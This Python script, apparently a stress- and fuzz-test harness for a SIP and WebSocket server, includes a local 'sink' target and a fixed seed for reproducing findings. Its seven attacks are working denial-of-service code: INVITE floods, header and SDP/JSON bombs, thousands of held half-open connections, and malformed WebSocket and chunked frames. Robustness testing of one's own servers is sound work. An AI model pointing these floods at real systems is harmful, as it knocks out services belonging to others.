#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Traffic that means harm, one attack by name; prints how many units it sent: hostile.py ATTACK IP SECONDS.

The seed is fixed: a run that finds something can be repeated."""
import os
import random
import socket
import struct
import sys
import time

RANDOM = random.Random(20260)
INVITE = ("INVITE sip:s@%s SIP/2.0\r\nVia: SIP/2.0/%s 10.77.0.1;branch=z9hG4bK%s\r\nFrom: <sip:c@10.77.0.1>;tag=1\r\n"
          "To: <sip:s@10.77.0.2>\r\nCall-ID: %s\r\nCSeq: 1 INVITE\r\nMax-Forwards: 70\r\nContact: <sip:c@10.77.0.1>\r\n"
          "%sContent-Length: %d\r\n\r\n%s")
UPGRADE = (b"GET /s HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
SIP_SNIPPETS = [b"INVITE ", b"SIP/2.0 ", b"\r\n\r\n", b"Call-ID: ", b"Via: ", b"Content-Length: 99999999999\r\n", b"\0",
                b"To: <sip:", b";tag=", b"\r\n ", b"CSeq: -1 "]


def invite(ip, number, transport="UDP", headers="", body=""):
    text = INVITE % (ip, transport, number, "%s@hostile" % number, headers, len(body), body)
    return text.encode("latin-1")


def junk():
    if RANDOM.random() < 0.5:
        return RANDOM.randbytes(RANDOM.randrange(1, 1400))
    return b"".join(RANDOM.choice(SIP_SNIPPETS) + RANDOM.randbytes(RANDOM.randrange(20)) for _ in range(RANDOM.randrange(1, 30)))


def until(seconds):
    end, number = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        yield number
        number += 1


def udp(ip, port=5060):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((ip, port))
    return sock


def say(sock, data):
    """A refusal from the other end ends nothing here."""
    try:
        sock.send(data)
        return 1
    except OSError:
        return 0


def tcp(ip, port):
    sock = socket.create_connection((ip, port), 3)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(3)
    return sock


def streams(ip, port, seconds, make):
    """One connection after the other; what make() returns goes out in its pieces, then the connection breaks off."""
    cnt = 0
    for number in until(seconds):
        with tcp(ip, port) as sock:
            for piece in make(number):
                if not say(sock, piece):
                    break
                cnt += 1
    return cnt


def junk_udp(ip, seconds):
    sock = udp(ip)
    return sum(say(sock, junk()) for _ in until(seconds))


def junk_tcp(ip, seconds):
    return streams(ip, 5060, seconds, lambda _: [junk() for _ in range(20)])


def call_ids(ip, seconds):
    """As many as go: each a call of its own."""
    sock, head = udp(ip), invite(ip, "NUMBER").split(b"NUMBER")
    return sum(say(sock, (b"%x" % number).join(head)) for number in until(seconds))


def header_bombs(ip, seconds):
    """64 KiB of headers: many, long, folded, nested."""
    bombs = ["X-Bomb: 1\r\n" * 5000, "X-Long: %s\r\n" % ("a" * 60000), "X-Fold: 1\r\n" + " folded\r\n" * 6000,
             "Via: SIP/2.0/TCP 10.0.0.1;branch=z9hG4bKx\r\n" * 1400, "Route: " + "<sip:a@b;lr>," * 4000 + "<sip:a>\r\n",
             "Contact: \"" + "\\\"" * 30000 + "\"\r\n", "X-Endless: " + "b" * 200000 + "\r\n"]
    return streams(ip, 5060, seconds, lambda number: [invite(ip, "bomb%d" % number, "TCP", bombs[number % len(bombs)])])


def half_streams(ip, seconds):
    """Connections that promise a message and stay: 2,000 of them with a body that never comes."""
    held, limit = [], 2000
    for number in until(seconds):
        if len(held) < limit:
            held.append(tcp(ip, 5060))
            say(held[-1], invite(ip, "half%d" % number, "TCP", body="x" * 30000)[:15000])
        else:
            time.sleep(0.05)
    return len(held)


def websocket_lies(ip, seconds):
    """Frames that say 2^63 bytes, or more than come; fragments without end; reserved bits; unmasked."""
    lies = [b"\x81\xff" + b"\xff" * 8, b"\x81\xff" + struct.pack(">Q", 1 << 40) + b"mask", b"\x81\xfe\xff\xffmask" + b"x" * 100,
            b"\x01\x84mask" + b"abcd" + b"\x00\x84maskabcd" * 3000, b"\xf1\x84maskabcd", b"\x81\x04abcd", b"\x89\xfe\x10\x00mask",
            b"\x81\xff" + struct.pack(">Q", 200) + b"mask" + b"y" * 200, b"\x83\x80mask", b"\x80\x84maskabcd"]

    def make(number):
        if number % 7 == 6:
            return [b"POST /o HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + b"z" * 5000]
        return [UPGRADE, lies[number % len(lies)], RANDOM.randbytes(3000)]
    return streams(ip, 8080, seconds, make)


def sdp_bombs(ip, seconds):
    """Descriptions with a thousand media, candidates, deep JSON, and lines that never end."""
    sock, head = udp(ip), "v=0\r\no=- 1 1 IN IP4 10.77.0.1\r\ns=-\r\nc=IN IP4 10.77.0.1\r\nt=0 0\r\n"
    bombs = [head + "m=audio 1 RTP/AVP 0\r\n" * 1500, head + "m=audio 9 RTP/AVP 0\r\n" + "a=candidate:1 1 udp 1 10.0.0.1 9 typ host\r\n" * 700,
             head + "a=ice-ufrag:" + "u" * 40000, head + "a=\r\n" * 8000, "v=0" * 10000]
    web = [b'{"sdp":' * 8000, b'{"type":"offer","sdp":"' + b"v=0\\r\\nm=audio 9 X 0\\r\\n" * 1500 + b'"}', b"[" * 30000,
           b'{"sdp":"' + b"\\u0000" * 8000 + b'"}']

    def make(number):
        body = web[number % len(web)]
        return [b"POST /o HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body]
    headers = "Content-Type: application/sdp\r\n"
    cnt = sum(say(sock, invite(ip, "sdp%d" % number, "UDP", headers, bombs[number % len(bombs)])) for number in until(seconds / 2))
    return cnt + streams(ip, 8080, seconds / 2, make)


def sink(ip):
    """The victim: reads and forgets, on UDP and TCP."""
    import selectors
    selector = selectors.DefaultSelector()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind((ip, 5060))
    selector.register(datagrams, selectors.EVENT_READ)
    listeners = []
    for port in (5060, 8080):
        listener = socket.create_server((ip, port), backlog=4096)
        listeners.append(listener)
        selector.register(listener, selectors.EVENT_READ)
    print("ready", flush=True)
    while True:
        for key, _ in selector.select():
            sock = key.fileobj
            try:
                if sock in listeners:
                    selector.register(sock.accept()[0], selectors.EVENT_READ)
                elif not sock.recv(65536) and sock is not datagrams:
                    selector.unregister(sock)
                    sock.close()
            except OSError:
                if sock is not datagrams and sock not in listeners:
                    selector.unregister(sock)
                    sock.close()


ATTACKS = {f.__name__: f for f in (junk_udp, junk_tcp, call_ids, header_bombs, half_streams, websocket_lies, sdp_bombs)}


def main():
    if sys.argv[1] == "sink":
        sink(sys.argv[2])
    print(ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3])), flush=True)
    os._exit(0)  # thousands of sockets: the kernel closes them


if __name__ == "__main__":
    main()
